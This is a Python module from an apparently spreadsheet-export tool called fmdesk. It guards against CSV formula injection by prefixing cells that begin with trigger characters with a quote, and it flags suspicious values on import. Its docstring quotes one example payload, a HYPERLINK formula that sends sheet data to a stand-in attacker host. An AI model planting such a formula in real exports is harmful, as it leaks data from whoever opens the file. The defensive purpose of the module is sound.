"""The cells of every CSV file fmdesk writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and one that
begins with a tab or a carriage return can hide such a character from view. A family name such as
`=HYPERLINK("http://evil.example/?d="&B2, "Click")` in a claim schedule would then send the
sheet's data elsewhere when someone opens it in Excel ("CSV injection", OWASP). So every CSV
fmdesk writes goes through `csv_bytes`, which passes every cell through `safe_cell`: text that
begins with one of those characters gets a single quote in front (`'=HYPERLINK(…`), the OWASP
rule, and shows as text.

A figure fmdesk worked out itself stays a number, so that a negative average change (`-0.50`)
is still a number a spreadsheet can sum: a column decides, by giving its cells as `Number` (or
as an int or float), never by what a cell happens to look like. A text column with a typed
`-5` in it is still neutralised, since the person who typed it did not mean a number; and a
`Number` must be a plain number, so no formula can come through a numeric column.

Reading, `could_be_formula` finds the values worth a warning (the identified-families import
warns, naming row and column, and imports them as written).
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence

# What a spreadsheet may take as the start of a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
_TRIGGER_NAMES = {"\t": "a tab", "\r": "a carriage return"}


class Number(str):
    """A figure as text for a numeric column (`Number("-0.50")`): written as it is, where text
    would be neutralised. It equals the plain string, so code that reads the rows as text still
    reads them the same way. Anything but a plain decimal number is refused."""

    __slots__ = ()

    def __new__(cls, text: object) -> "Number":
        value = str(text)
        if not _PLAIN_NUMBER.fullmatch(value):
            raise ValueError(f"{value!r} is not a plain number")
        return super().__new__(cls, value)


def safe_cell(value: object) -> str:
    """One cell as written: None is empty; a `Number`, int or float is written as it is; any
    other value is text, with a single quote in front when it begins with a character in
    TRIGGERS."""
    if value is None:
        return ""
    if isinstance(value, Number):
        return str.__str__(value)
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(TRIGGERS):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """Rows as a CSV file Excel opens without asking: UTF-8 with a byte-order mark, CRLF line
    ends (Python reads it with encoding="utf-8-sig"), every cell through `safe_cell`."""
    text = io.StringIO()
    csv.writer(text).writerows([safe_cell(cell) for cell in row] for row in rows)
    return text.getvalue().encode("utf-8-sig")


def could_be_formula(value: str) -> bool:
    """Whether a value read from a CSV file could run as a formula in a spreadsheet: it begins
    with a character in TRIGGERS (before or after its surrounding spaces), and it is not a
    plain number or a lone run of dashes (a placeholder), which no spreadsheet runs."""
    stripped = value.strip()
    if not (value.startswith(TRIGGERS) or stripped.startswith(TRIGGERS)):
        return False
    return not (_PLAIN_NUMBER.fullmatch(stripped) or re.fullmatch(r"-+", stripped))


def formula_warning(value: str) -> str:
    """What to say about a value `could_be_formula` found, for a warning that names its row and
    column."""
    first = value[0] if value.startswith(TRIGGERS) else value.strip()[0]
    named = _TRIGGER_NAMES.get(first, repr(first))
    return (
        f"begins with {named}, so a spreadsheet may run it as a formula. It is imported as "
        "written (fmdesk's own CSV files show it as text); check it in the source data."
    )
